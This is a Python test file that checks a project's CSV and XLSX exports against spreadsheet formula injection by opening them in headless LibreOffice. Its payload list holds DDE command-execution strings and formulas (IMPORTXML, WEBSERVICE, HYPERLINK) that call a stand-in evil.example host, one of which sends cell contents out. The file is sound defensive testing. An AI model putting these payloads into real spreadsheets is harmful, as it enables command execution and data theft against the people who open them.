"""Files with hostile text, opened by a real spreadsheet: it computes nothing of them."""

from __future__ import annotations

import math
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from automation.reports.answer import Answer
from automation.reports.cells import Look
from automation.reports.export import write_csv
from automation.reports.workbook import About, Sheet, write_xlsx

TABLE, OFFICE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{one}:1.0}}" for one in ("table", "office", "text"))
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "+cmd|' /C calc'!A0", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @SUM(1)", '"=1+1', "'=1+1",
    '" =1+1', "＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "\u00a0=1+1", "\u3000=1+1", "=", "-", "=A1", "=NOW()",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=WEBSERVICE("http://evil.example/")', "{=1+1}", "=1+1\n=2",
    "+34 600 000 000", "; =1+1", ",=1+1", "a,=1+1", '","=1+1', "😀=1", "שלום", "a\x01b", "http://example.com",
]  # fmt: skip
NUMBERS = [-5, -5.5, 0, Decimal("-1.25"), 12345678]


@pytest.fixture(scope="module")
def opened(needs, tmp_path_factory):
    """Both files as LibreOffice understands them: its own document of each, by suffix."""
    soffice, folder = needs("soffice"), tmp_path_factory.mktemp("sheets")
    rows = [(text, "after", NUMBERS[at % len(NUMBERS)]) for at, text in enumerate(PAYLOADS)]
    rows += [("moment", datetime(2026, 1, 2, 3, tzinfo=UTC), math.nan), ("old", date(1850, 1, 2), None)]
    answer = Answer("q", ("text", "=other", "number"), tuple(rows))
    write_csv(answer, folder / "csv.csv")
    sheet = Sheet("a/b[c]:*?\\ and a name that is much too long", answer, [Look(name) for name in answer.columns])
    write_xlsx(folder / "xlsx.xlsx", [sheet], About("=1+1", datetime(2026, 1, 1, tzinfo=UTC), {"=1": "=2"}))
    command = [
        soffice,
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
        folder,
    ]
    for name in ("csv.csv", "xlsx.xlsx"):
        subprocess.run([*command, folder / name], check=True, capture_output=True, timeout=170)
    return {kind: ET.parse(folder / f"{kind}.fods").getroot() for kind in ("csv", "xlsx")}


def cells(root):
    """Each cell of the last sheet with something in it: its type, value and text."""
    last = root.findall(f".//{TABLE}table")[-1]
    for row in last.iter(f"{TABLE}table-row"):
        found = [
            (
                cell.get(f"{OFFICE}value-type"),
                cell.get(f"{OFFICE}value"),
                "\n".join("".join(p.itertext()) for p in cell.iter(f"{TEXT}p")),
            )
            for cell in row.findall(f"{TABLE}table-cell")
        ]
        if found and any(kind for kind, _, _ in found):
            yield found


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_nothing_is_computed(opened, kind):
    """No cell is a formula, no text became a link, and every payload is text."""
    root = opened[kind]

    assert [cell.attrib for cell in root.iter() if cell.get(f"{TABLE}formula")] == []
    assert list(root.iter(f"{TEXT}a")) == []
    rows = list(cells(root))[1:]
    assert len(rows) == len(PAYLOADS) + 2
    assert {row[0][0] for row in rows[: len(PAYLOADS)]} == {"string"}


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_numbers_stay_numbers(opened, kind):
    """Negative ones too, beside text that was defused."""
    rows = list(cells(opened[kind]))[1 : len(PAYLOADS) + 1]

    assert {row[2][0] for row in rows} == {"float"}
    assert [float(row[2][1]) for row in rows[:5]] == [float(number) for number in NUMBERS]
